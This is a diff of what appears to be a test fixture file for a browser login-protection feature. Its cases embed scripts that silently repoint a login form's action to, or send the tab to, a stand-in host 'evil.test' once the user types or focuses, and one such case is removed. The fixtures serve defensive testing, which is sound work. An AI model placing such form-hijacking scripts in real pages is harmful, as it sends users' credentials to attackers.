@@ -19,8 +19,6 @@ export const cases = {
 	other.action = 'https://evil.test/in';
 	document.forms[0].replaceWith(other);
 }, { once: true });</script>` },
-	'a11-navigated': { what: 'a tab that goes elsewhere once the user name is there', told: /Were you able to sign in/, late: true,
-		body: `${form({ onsubmit: 'return false' })}<script>addEventListener('input', () => { location.href = 'https://evil.test/login'; }, { once: true });</script>` },
 	'a11-at-once': { what: 'a form whose address changes as soon as it was found', told: CHANGED, late: true,
 		body: `${form()}<script>addEventListener('focusin', () => { document.forms[0].action = 'https://evil.test/in'; });</script>` },
 };
